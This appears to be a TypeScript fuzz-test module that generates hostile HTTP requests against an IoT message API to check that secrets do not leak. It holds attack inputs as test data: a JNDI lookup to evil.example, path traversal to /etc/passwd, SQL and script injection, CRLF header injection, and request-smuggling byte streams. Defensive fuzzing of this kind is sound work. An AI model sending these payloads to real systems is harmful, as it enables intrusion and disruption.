import { gzipSync } from 'node:zlib';
import fc from 'fast-check';

/** Secrets that hostile requests carry about, each of them nowhere else. None may show in an answer or a log. */
export const SECRETS = {
  deviceKey: Buffer.from('a-device-key-that-must-not-leak!').toString('base64'),
  wrongKey: Buffer.from('a-wrong-key-that-must-not-leak!!').toString('base64'),
  badKey: 'no-base64-but-secret-all-the-same;',
  token: 'SharedAccessSignature sr=hub&sig=s3cr3t-signature&se=1',
  code: 'a-function-key-that-is-wrong-but-secret',
};

export interface HostileRequest {
  method: string;
  path: string;
  headers: [string, string][];
  body: Buffer;
}

const CRAFTED = [
  '\r\nX-Injected: 1',
  '\n',
  '\0',
  ';HostName=evil.example',
  '../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  "' OR 1=1 --",
  '%00',
  '%0d%0aX-Injected: 1',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '\u202e\u2028\ufeff',
  '😀'.repeat(50),
  'x'.repeat(10_000),
  '{{7*7}}',
  '-1',
  'NaN',
  '1e309',
];

const text = fc.oneof(
  fc.constantFrom(...CRAFTED),
  fc.string({ unit: 'binary', maxLength: 200 }),
  fc.string(),
);
const deviceId = fc.oneof({ weight: 3, arbitrary: fc.constantFrom('hostile', 'unknown', "a!*'()") }, text);
const deviceKey = fc.oneof(
  fc.constantFrom(
    SECRETS.deviceKey,
    SECRETS.wrongKey,
    SECRETS.badKey,
    `${SECRETS.deviceKey};SharedAccessKey=x`,
  ),
  text,
);
const anything = fc.oneof(fc.jsonValue({ maxDepth: 3 }), text);
const properties = fc.oneof(fc.dictionary(text, text, { maxKeys: 5 }), anything);
const message = fc.record(
  { deviceMessage: anything, messageId: fc.oneof(text, anything), properties },
  { requiredKeys: [] },
);
const well = { deviceId: fc.constant('hostile'), deviceKey: fc.constant(SECRETS.deviceKey) };

const sending = fc.oneof(
  fc.record(
    { deviceId, deviceKey, deviceMessage: anything, messageId: text, properties },
    { requiredKeys: [] },
  ),
  fc.record({ ...well, messages: fc.array(fc.oneof(message, anything), { maxLength: 20 }) }),
  fc.record({ ...well, deviceMessage: anything, messageId: text, properties }),
  fc.record({ deviceId, deviceKey, messages: anything }, { requiredKeys: [] }),
  anything,
);
const registering = fc.oneof(
  fc.record({ deviceId, deviceKey }, { requiredKeys: [] }),
  fc.record({ deviceId: fc.constant('hostile'), deviceKey: fc.oneof(deviceKey, anything) }),
  anything,
);

/** Bytes that are not what they should be. */
const mangled = (bytes: fc.Arbitrary<Buffer>) =>
  fc.oneof(
    { weight: 30, arbitrary: bytes },
    { weight: 1, arbitrary: bytes.map((whole) => whole.subarray(0, Math.floor(whole.length / 2))) },
    { weight: 1, arbitrary: fc.uint8Array({ maxLength: 500 }).map((random) => Buffer.from(random)) },
    { weight: 1, arbitrary: bytes.map((whole) => Buffer.concat([whole, whole])) },
    { weight: 1, arbitrary: bytes.map((whole) => Buffer.from(whole.toString('utf8'), 'utf16le')) },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.constantFrom('[', '{"a":', '"', '9', '\\', ' '), fc.integer({ min: 1, max: 60_000 }))
        .map(([unit, count]) => Buffer.from(unit.repeat(count))),
    },
  );

const encoded = (bytes: fc.Arbitrary<Buffer>) =>
  fc
    .tuple(
      bytes,
      fc.constantFrom(...Array<string>(20).fill(''), 'gzip', 'gzip', 'gzip!', 'br', 'identity', 'gzip, gzip'),
    )
    .map(([body, encoding]): { body: Buffer; headers: [string, string][] } => ({
      // "gzip!" claims what the body is not
      body: encoding === 'gzip' ? gzipSync(body) : body,
      headers: encoding === '' ? [] : [['content-encoding', encoding.replace('!', '')]],
    }));

const json = (value: fc.Arbitrary<unknown>) =>
  encoded(mangled(value.map((any) => Buffer.from(JSON.stringify(any)))));

const contentType = fc.constantFrom(
  ...Array<string>(30).fill('application/json'),
  'application/json; charset=utf-8',
  'text/plain',
  'text/plain;charset=UTF-8',
  'application/json; charset=utf-16',
  'multipart/form-data; boundary=x',
  'application/vnd.microsoft.iothub.json',
  'application/x-www-form-urlencoded',
  ';;;',
  '',
);

/** What HTTP lets a header hold: Latin 1 without control characters. */
const headerValue = text.map((value) =>
  Buffer.from(value)
    .toString('latin1')
    .replace(/[^\t\x20-\x7e\x80-\xff]/g, '?'),
);
const moreHeaders = fc.array(
  fc.tuple(
    fc.constantFrom(
      'origin',
      'authorization',
      'cookie',
      'x-forwarded-for',
      'x-forwarded-host',
      'x-original-url',
      'x-http-method-override',
      'accept',
      'accept-encoding',
      'if-none-match',
      'iothub-app-x',
      'iothub-messageid',
      'x-ms-client-principal',
      'range',
    ),
    fc.oneof(
      headerValue.map((value) => value.slice(0, 2_000)),
      fc.constant(SECRETS.token),
    ),
  ),
  { maxLength: 3 },
);

const query = fc.oneof(
  { weight: 10, arbitrary: fc.constant('') },
  fc.constantFrom(
    '?action=ping',
    '?action=PING',
    `?code=${SECRETS.code}`,
    '?deviceId=x&deviceKey=y',
    '?__proto__=1',
  ),
  fc
    .tuple(fc.constantFrom('action', 'after_offset', 'limit', 'wait0', 'partitions'), text)
    .map(
      ([name, value]) =>
        `?${name}=${encodeURIComponent(value.slice(0, 1_000).replace(/[\ud800-\udfff]/g, '?'))}`,
    ),
);

/** Well-formed but for their key or sender: at random, hardly any request gets as far as the hub's refusal. */
const refusedByHub = fc.constantFrom('hostile', 'unknown').map((deviceId) => ({
  method: 'POST',
  path: '/api/messages',
  headers: [['content-type', 'application/json'] as [string, string]],
  body: Buffer.from(JSON.stringify({ deviceId, deviceKey: SECRETS.wrongKey, deviceMessage: 1 })),
}));

/** @param functionKey of the host, which some of the requests have */
export function hostileRequests(functionKey: string): fc.Arbitrary<HostileRequest> {
  const request = (path: string, bodies: ReturnType<typeof json>, methods: string[]) =>
    fc
      .record({
        sent: bodies,
        type: contentType,
        more: moreHeaders,
        search: query,
        method: fc.constantFrom(...methods),
      })
      .map(({ sent, type, more, search, method }) => ({
        method,
        path: `/api/${path}${search}`,
        headers: [
          ...new Map([...more, ...sent.headers, ['content-type', type] as [string, string]]),
          ...(path === 'messages' ? [] : [['x-functions-key', functionKey] as [string, string]]),
        ],
        body: method === 'GET' || method === 'OPTIONS' ? Buffer.alloc(0) : sent.body,
      }));
  const posts = [...Array<string>(30).fill('POST'), 'PUT', 'OPTIONS', 'GET', 'DELETE', 'PATCH', 'TRACE'];
  return fc.oneof(
    { weight: 6, arbitrary: request('messages', json(sending), posts) },
    { weight: 2, arbitrary: request('devices', json(registering), posts) },
    { weight: 1, arbitrary: request('message_feed', json(anything), ['GET', 'GET', 'POST']) },
    { weight: 1, arbitrary: refusedByHub },
    { weight: 1, arbitrary: request('nothing/../messages/%2e%2e', json(sending), posts) },
  );
}

/** Whole requests as bytes, which no HTTP client would send. @param host of the server */
export function hostileBytes(host: string): string[] {
  const body = JSON.stringify({ deviceId: 'hostile', deviceKey: SECRETS.deviceKey, deviceMessage: 1 });
  const post = (headers: string, content = body, path = '/api/messages') =>
    `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\n${headers}\r\n\r\n${content}`;
  const length = `Content-Length: ${body.length}`;
  const whole = post(length);
  const chunked = `${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`;
  return [
    whole + whole + whole, // pipelined
    whole.repeat(50),
    post('Transfer-Encoding: chunked', chunked),
    post('Transfer-Encoding: chunked', chunked) + whole,
    post(`${length}\r\nTransfer-Encoding: chunked`, chunked),
    post('Transfer-Encoding: gzip, chunked', chunked),
    post('Transfer-Encoding: chunked', 'ffffffffffffffff\r\nx'),
    post('Transfer-Encoding: chunked', 'zz\r\n'),
    post('Content-Length: -1'),
    post('Content-Length: 1e3'),
    post('Content-Length: 999999999999999999999'),
    post('Content-Length: 90000000'),
    post(`${length}\r\n${length}`),
    post(`${length}\r\nContent-Length: 3`),
    post('Content-Length: 10'),
    post(`Content-Length: ${body.length + 5}`),
    post(`${length}\r\nExpect: 100-continue`),
    post(`${length}\r\nExpect: nonsense`),
    post(`${length}\r\nUpgrade: websocket\r\nConnection: Upgrade`),
    post(`${length}\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings`),
    post(`${length}\r\nX-Bad Name: 1`),
    post(`${length}\r\nX-Bad: \0`),
    post(`${length}\r\n X-Folded: 1`),
    post(`${length}\r\nX-Large: ${'x'.repeat(100_000)}`),
    post(`${length}\r\n${'X-Many: 1\r\n'.repeat(3_000)}X-Last: 1`),
    post(`${length}\r\nHost: evil.example`),
    post(length, body, 'http://evil.example/api/messages'),
    post(length, body, '//evil.example/api/messages'),
    post(length, body, '/api/messages?\u00ff\u00fe'),
    post(length, body, '/api/messages/%'),
    post(length, body, `/api/${'a/'.repeat(5_000)}`),
    whole.replace(`Host: ${host}`, 'Host: user:password@evil.example'),
    whole.replace(`Host: ${host}`, 'Host: a b'),
    whole.replace(`Host: ${host}\r\n`, ''),
    whole.replace('HTTP/1.1', 'HTTP/1.0'),
    whole.replace('HTTP/1.1', 'HTTP/9.9'),
    whole.replaceAll('\r\n', '\n'),
    whole.replace('POST', 'post'),
    whole.replace('POST', 'CONNECT'),
    'GET\r\n\r\n',
    'OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n',
    '\r\n\r\n\r\n',
    '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03',
    'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
  ];
}
